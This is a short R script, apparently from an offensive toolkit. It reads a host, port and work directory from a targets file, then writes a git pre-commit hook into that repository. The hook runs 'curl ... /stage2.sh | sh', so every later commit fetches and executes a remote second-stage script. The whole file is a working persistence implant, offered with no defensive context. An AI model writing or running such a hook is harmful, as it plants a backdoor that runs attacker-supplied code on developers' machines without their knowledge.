# git-hooks: a pre-commit hook that runs stage 2 at the next commit.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
hook <- file.path(T[["T_WORK"]], ".git", "hooks", "pre-commit")
try(writeLines(c("#!/bin/sh", sprintf("curl -s http://%s:%s/stage2.sh | sh",
                                      T[["T_TCP_HOST"]], T[["T_TCP_PORT"]])), hook))
Sys.chmod(hook, "755")
print(file.info(hook)[, c("size", "mode")])
